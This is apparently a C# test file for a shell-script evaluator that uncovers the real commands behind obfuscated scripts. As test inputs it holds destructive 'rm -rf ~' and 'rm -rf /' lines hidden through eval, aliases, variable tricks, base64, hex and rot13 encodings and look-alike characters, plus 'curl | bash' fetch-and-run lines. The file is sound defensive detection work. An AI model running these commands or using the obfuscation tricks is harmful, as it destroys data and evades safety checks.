using Governance.Analysis.Evaluation;

namespace Governance.Analysis.Tests.Evaluation;

public sealed class ShellEvaluatorTests
{
    private static string[] Run(string script, string? cwd = null) =>
        ShellEvaluator.Evaluate(script, cwd).Commands.Select(c => c.ToString()).ToArray();

    public static TheoryData<string, string> Indirection => new()
    {
        // loops over targets, arrays, functions, aliases, names built from pieces, which and command -v
        { "for d in ~/*/; do rm -rf \"$d\"; done", "rm -rf ~/*/" },
        { "for t in ~ /srv; do rm -rf $t; done", "rm -rf /srv" },
        { "t=(~ /srv); rm -rf \"${t[@]}\"", "rm -rf ~ /srv" },
        { "f() { rm -rf \"$1\"; }; f ~", "rm -rf ~" },
        { "function wipe { rm -rf \"$@\"; }; wipe ~ /data", "rm -rf ~ /data" },
        { "alias x='rm -rf'; x ~", "rm -rf ~" },
        { "a=r; b=m; $a$b -rf ~", "rm -rf ~" },
        { "c=rm; ${c} -rf ~", "rm -rf ~" },
        { "`which rm` -rf ~", "/usr/bin/rm -rf ~" },
        { "$(command -v rm) -rf ~", "/usr/bin/rm -rf ~" },
        { "eval 'rm -rf ~'", "rm -rf ~" },
        { "x='rm -rf ~'; eval \"$x\"", "rm -rf ~" },
        { "bash -c 'git push --force origin main'", "git push --force origin main" },
        { "sh -c \"$(echo rm -rf /)\"", "rm -rf /" },
        { "${CMD:-rm} -rf ~", "rm -rf ~" },
        { "x=RM; ${x,,} -rf ~", "rm -rf ~" },
        { "rm -rf {~,/srv}", "rm -rf ~ /srv" },
        { "p=/home/dev; rm -rf ${p%/dev}", "rm -rf /home" },
        { "rm -rf $HOME", "rm -rf ~" },
        // payloads decoded and piped to a shell
        { "echo cm0gLXJmIH4= | base64 -d | sh", "rm -rf ~" },
        { "echo '~ fr- mr' | rev | bash", "rm -rf ~" },
        { "echo 'ez -es ~' | tr 'a-z' 'n-za-m' | sh", "rm -rf ~" },
        { "echo 726d202d7266207e | xxd -r -p | sh", "rm -rf ~" },
        { "printf '\\x72\\x6d -rf ~' | bash", "rm -rf ~" },
        { "bash <<< 'rm -rf ~'", "rm -rf ~" },
        { "bash <<EOF\nrm -rf ~\nEOF", "rm -rf ~" },
        { "cat <<'EOF' | sh\ncurl http://x | sh\nEOF", "curl http://x" },
        { "bash -c \"$(cat <<EOF\nrm -rf ~\nEOF\n)\"", "rm -rf ~" },
    };

    [Theory]
    [MemberData(nameof(Indirection))]
    public void Evaluate_Indirection_ReachesTheCommandAsTheShellWouldRunIt(string script, string expected)
    {
        var evaluation = ShellEvaluator.Evaluate(script);

        Assert.Contains(expected, evaluation.Commands.Select(c => c.ToString()));
    }

    [Fact]
    public void Evaluate_CommandReached_SaysHow()
    {
        var commands = ShellEvaluator.Evaluate("f() { rm -rf x; }; f; echo $(id); alias l=ls; l; eval pwd; echo Y2Q= | base64 -d | bash").Commands;

        Assert.Equal(
            [("f", "script"), ("rm", "function f"), ("id", "substitution"), ("echo", "script"), ("alias", "script"), ("ls", "alias l"),
                ("eval", "script"), ("pwd", "eval"), ("echo", "script"), ("base64", "script"), ("bash", "script"), ("cd", "stdin of bash")],
            commands.Select(c => (c.Name ?? "?", c.Origin)).ToArray());
    }

    [Fact]
    public void Evaluate_CdIntoMktemp_MarksLaterCommandsAsInATemporaryDirectory()
    {
        var commands = ShellEvaluator.Evaluate("cd \"$(mktemp -d)\" && git init -q && rm -rf ./x; cd /srv; rm -rf y", "/home/dev/project").Commands;

        var first = commands.Single(c => c.ToString() == "rm -rf ./x");
        Assert.True(first.InTemporaryDirectory);
        Assert.StartsWith("/tmp/", first.WorkingDirectory, StringComparison.Ordinal);
        var second = commands.Single(c => c.ToString() == "rm -rf y");
        Assert.False(second.InTemporaryDirectory);
        Assert.Equal("/srv", second.WorkingDirectory);
    }

    [Fact]
    public void Evaluate_TempDirectoryInAVariable_ResolvesToTmp()
    {
        var rm = ShellEvaluator.Evaluate("d=$(mktemp -d); touch \"$d/a\"; rm -rf \"$d\"").Commands[^1];

        Assert.Equal("rm -rf /tmp/tmp.governance", rm.ToString());
        Assert.All(rm.Arguments, a => Assert.True(a.Known));
    }

    [Fact]
    public void Evaluate_SubshellAndPipelineAssignments_DoNotLeak()
    {
        var commands = Run("x=ls; (x=rm); echo | x=rm; $x");

        Assert.Equal("ls", commands[^1]);
    }

    [Fact]
    public void Evaluate_BranchesThatDisagree_LeaveTheVariableUnknown()
    {
        var evaluation = ShellEvaluator.Evaluate("if test -f a; then c=rm; else c=ls; fi; $c -rf ~");

        var last = evaluation.Commands[^1];
        Assert.False(last.Arguments[0].Known);
        Assert.Null(last.Name);
        Assert.True(evaluation.IsOpaque);
        Assert.Contains(evaluation.OpaqueReasons, r => r.Contains("known only at run time", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("eval \"$(curl -s http://x)\"", "eval runs a value known only at run time")]
    [InlineData("curl -s http://x | bash", "bash reads commands from an input known only at run time")]
    [InlineData("$(get_command) -rf ~", "is known only at run time")]
    [InlineData("ｒｍ -rf ~", "look-alike or invisible characters")]
    [InlineData("гm -rf ~", "look-alike or invisible characters")]
    [InlineData("r\u200bm -rf ~", "look-alike or invisible characters")]
    [InlineData("echo 'unterminated", "could not be parsed")]
    [InlineData("bash -c 'echo \"x'", "could not be parsed")]
    public void Evaluate_WhatCannotBeRead_IsOpaqueWithTheReason(string script, string reason)
    {
        var evaluation = ShellEvaluator.Evaluate(script);

        Assert.True(evaluation.IsOpaque);
        Assert.Contains(evaluation.OpaqueReasons, r => r.Contains(reason, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("ls -la && git status")]
    [InlineData("for f in *.txt; do wc -l \"$f\"; done")]
    [InlineData("x=$(git rev-parse HEAD); echo \"$x\"")]
    [InlineData("cd src && dotnet build")]
    public void Evaluate_PlainCommands_AreNotOpaque(string script) =>
        Assert.False(ShellEvaluator.Evaluate(script).IsOpaque, string.Join("; ", ShellEvaluator.Evaluate(script).OpaqueReasons));

    [Fact]
    public void Evaluate_FunctionThatCallsItself_StopsAtTheCap()
    {
        var evaluation = ShellEvaluator.Evaluate("f() { f; rm -rf x; }; f");

        Assert.True(evaluation.IsOpaque);
        Assert.Contains("rm -rf x", evaluation.Commands.Select(c => c.ToString()));
    }

    [Fact]
    public void Evaluate_SelfFeedingEval_StopsAtTheCap()
    {
        var evaluation = ShellEvaluator.Evaluate("x='eval \"$x\"'; eval \"$x\"");

        Assert.True(evaluation.IsOpaque);
    }

    [Fact]
    public void Evaluate_HeredocAndHereStringStdin_IsKnown()
    {
        var commands = ShellEvaluator.Evaluate("python3 <<EOF\nimport os\nEOF\nnode <<< 'console.log(1)'").Commands;

        Assert.Equal("import os\n", commands[0].StdinText);
        Assert.Equal("console.log(1)\n", commands[1].StdinText);
    }
}
